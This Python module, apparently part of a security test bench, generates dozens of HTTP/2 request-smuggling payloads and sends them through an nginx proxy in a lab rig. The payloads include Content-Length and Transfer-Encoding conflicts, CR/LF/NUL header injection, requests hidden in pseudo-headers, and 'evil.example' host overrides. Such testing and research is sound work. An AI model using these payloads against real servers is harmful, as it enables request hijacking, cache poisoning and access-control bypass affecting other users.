"""Requests in HTTP/2 that would hide another one where a proxy writes them on in HTTP/1.1 as they are.

Source: Kettle, HTTP/2: The Sequel is Always Worse (2021), and RFC 9113, 8.2.1 and 8.3. The frames are h2's, which is
told not to look at what is in them.
"""

from __future__ import annotations

import contextlib
import dataclasses
import socket
import ssl
from typing import TYPE_CHECKING

from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.errors import ErrorCodes
from h2.events import ConnectionTerminated, ResponseReceived, StreamEnded, StreamReset
from h2.exceptions import ProtocolError

from bench.attacks.visitor import MACHINE
from bench.browser import HOST

if TYPE_CHECKING:
    from bench.attacks.rig import Rig

PATIENCE = 2.0
_ENDS = (StreamEnded, StreamReset, ConnectionTerminated)


@dataclasses.dataclass(frozen=True)
class Trick:
    """The headers of a request in their order, those that begin with a colon among them, and its body."""

    headers: list[tuple[str, str]]
    body: str = ""

    def in_http_1(self) -> bytes:
        """Return what a proxy sends on that looks at nothing: each header on a line, as it is."""
        said: dict[str, list[str]] = {}
        for name, value in self.headers:
            said.setdefault(name, []).append(value)
        method, path = (said.get(name, [""])[-1] for name in (":method", ":path"))
        host = [("Host", value) for value in said.get(":authority", [])[-1:]]
        lines = [*host, *((name, value) for name, value in self.headers if not name.startswith(":"))]
        head = "".join(f"{name}: {value}\r\n" for name, value in lines)
        return f"{method} {path} HTTP/1.1\r\n{head}\r\n{self.body}".encode("latin-1")


def tricks(hidden: str) -> dict[str, Trick]:
    """Return what is sent, by the name of the trick; `hidden` is the address that is hidden in it."""
    inner = f"GET {hidden} HTTP/1.1\r\nHost: {HOST}\r\nX-Ignore: x\r\n\r\n"
    chunks = f"0\r\n\r\n{inner}"
    return _of_lengths(inner, chunks) | _of_line_ends(inner, chunks) | _of_pseudo_headers(hidden, inner)


def _of_lengths(inner: str, chunks: str) -> dict[str, Trick]:
    length = str(len(inner))
    return {
        "H2.CL": _post(inner, ("content-length", "0")),
        "H2.CL, too long": _post(inner, ("content-length", str(len(inner) + 500))),
        "H2.CL, said and no body": _post("", ("content-length", length)),
        "H2.CL, two lengths": _post(inner, ("content-length", "0"), ("content-length", length)),
        "H2.CL, two lengths, long first": _post(inner, ("content-length", length), ("content-length", "0")),
        "H2.CL, a sign": _post(inner, ("content-length", "+0")),
        "H2.CL, a blank before": _post(inner, ("content-length", " 0")),
        "H2.CL, a blank in the name": _post(inner, ("content-length ", "0")),
        "H2.CL, in capitals": _post(inner, ("Content-Length", "0")),
        "H2.CL, an underscore": _post(inner, ("content_length", "0")),
        "H2.CL of a GET": _post(inner, ("content-length", "0"), method="GET"),
        "H2.TE": _post(chunks, ("transfer-encoding", "chunked")),
        "H2.TE, with a length": _post(chunks, ("content-length", str(len(chunks))), ("transfer-encoding", "chunked")),
        "H2.TE, in capitals": _post(chunks, ("Transfer-Encoding", "chunked")),
        "H2.TE, a blank in the name": _post(chunks, ("transfer-encoding ", "chunked")),
        "H2.TE, a blank in the value": _post(chunks, ("transfer-encoding", " chunked")),
        "H2.TE, a colon in the name": _post(chunks, ("transfer-encoding: chunked\r\nx-ignore", "x")),
        "H2.TE, an underscore": _post(chunks, ("transfer_encoding", "chunked")),
        "H2.TE of a GET": _post(chunks, ("transfer-encoding", "chunked"), method="GET"),
        "headers of the connection": _post(
            chunks, ("connection", "transfer-encoding"), ("transfer-encoding", "chunked")
        ),
        "an upgrade": _post(inner, ("connection", "Upgrade"), ("upgrade", "websocket"), ("content-length", "0")),
        "te": _post(chunks, ("te", "chunked"), ("proxy-connection", "keep-alive")),
        "Expect": _post(inner, ("expect", "100-continue"), ("content-length", "0")),
    }


def _of_line_ends(inner: str, chunks: str) -> dict[str, Trick]:
    found: dict[str, Trick] = {}
    for name, end in {"CR LF": "\r\n", "LF": "\n", "CR": "\r", "NUL": "\0", "two CR LF": "\r\n\r\n"}.items():
        hiding = f"{end}transfer-encoding: chunked" if "two" not in name else f"{end}{inner}"
        body = chunks if "two" not in name else ""
        found |= {
            f"{name} in a value": _post(body, ("x-ignore", f"x{hiding}")),
            f"{name} in a name": _post(body, (f"x-ignore: x{hiding}\r\nx-more", "x")),
            f"{name} in the cookie": _post(body, ("cookie", "a=b"), ("cookie", f"c=d{hiding}")),
            f"{name} in the authority": _post(body, authority=f"{HOST}{hiding}"),
            f"{name} in the host": _post(body, ("host", f"{HOST}{hiding}")),
        }
    return found


def _of_pseudo_headers(hidden: str, inner: str) -> dict[str, Trick]:
    line = f" HTTP/1.1\r\nHost: {HOST}\r\n\r\nGET {hidden}"
    own = _post(inner).headers
    return {
        "a request in the path": _post("", path=f"/log-in/{line}"),
        "a request in the query": _post("", path=f"/log-in/?a=b{line}"),
        "a blank in the path": _post("", path=f"/log-in/ HTTP/1.1 {hidden}"),
        "a tab in the path": _post("", path=f"/log-in/\tHTTP/1.1\t{hidden}"),
        "LF in the path": _post("", path=f"/log-in/ HTTP/1.0\n\nGET {hidden}"),
        "a request in the method": _post("", method=f"GET /log-in/{line} HTTP/1.1\r\nX-Ignore: x\r\n\r\nGET"),
        "a blank in the method": _post("", method=f"GET {hidden} HTTP/1.1\r\nX-Ignore:"),
        "a request in the scheme": _post("", scheme=f"https://{HOST}{hidden} HTTP/1.1\r\nX-Ignore: x\r\n\r\nGET "),
        "a path without a slash": _post("", path=f"@{HOST}{hidden}"),
        "a path with a host": _post("", path=f"https://{HOST}{hidden}"),
        "an empty path": _post("", path=""),
        "a fragment": _post("", path=f"/log-in/#{hidden}"),
        "CONNECT": _post(inner, method="CONNECT"),
        **{f"{name} twice": Trick([(name, value), *own], inner) for name, value in _others(hidden).items()},
        **{f"{name} behind": Trick([*own, (name, value)], inner) for name, value in _others(hidden).items()},
        "a made-up one": Trick([*own[:2], (":hidden", hidden), *own[2:]], inner),
        "one with CR LF in its name": Trick([*own, (f":x\r\n\r\nGET {hidden} HTTP/1.1\r\nHost: {HOST}\r\nx", "x")]),
        "another host": _post(inner, ("host", "evil.example")),
        "two hosts": _post(inner, ("host", HOST), ("host", "evil.example")),
    }


def _others(hidden: str) -> dict[str, str]:
    return {":method": "GET", ":path": hidden, ":authority": "evil.example", ":scheme": "http"}


def _post(
    body: str,
    *more: tuple[str, str],
    method: str = "POST",
    path: str = "/log-in/",
    authority: str = HOST,
    scheme: str = "https",
) -> Trick:
    own = {":method": method, ":scheme": scheme, ":authority": authority, ":path": path}
    return Trick([*own.items(), *more], body)


def send(rig: Rig, trick: Trick, source: str) -> int:
    """Send a trick through nginx; return the status of its answer, or 0 where there was none."""
    context = ssl.create_default_context(cadata=rig.proxy.authority.decode())
    context.set_alpn_protocols(["h2"])
    told = H2Configuration(validate_outbound_headers=False, normalize_outbound_headers=False, header_encoding="latin-1")
    http_2 = H2Connection(told)
    http_2.initiate_connection()
    pairs = [(name.encode("latin-1"), value.encode("latin-1")) for name, value in trick.headers]
    http_2.send_headers(1, pairs, end_stream=not trick.body)
    if trick.body:
        http_2.send_data(1, trick.body.encode("latin-1"), end_stream=True)
    plain = socket.create_connection((MACHINE, rig.port), timeout=30, source_address=(source, 0))
    with context.wrap_socket(plain, server_hostname=HOST) as connection:
        if connection.selected_alpn_protocol() != "h2":
            msg = "nginx speaks no HTTP/2"
            raise ConnectionError(msg)
        connection.settimeout(PATIENCE)
        with contextlib.suppress(TimeoutError, OSError):
            connection.sendall(http_2.data_to_send())
            return _status(http_2, connection)
    return 0


def _status(http_2: H2Connection, connection: ssl.SSLSocket) -> int:
    status = 0
    while received := connection.recv(65536):
        try:
            events = http_2.receive_data(received)
        except ProtocolError:
            return 0
        for event in events:
            if isinstance(event, ResponseReceived):
                status = next(int(value) for name, value in event.headers or [] if name in {":status", b":status"})
            if isinstance(event, _ENDS):
                refused = isinstance(event, StreamReset) and event.error_code != ErrorCodes.NO_ERROR
                return 0 if refused else status
        connection.sendall(http_2.data_to_send())
    return status
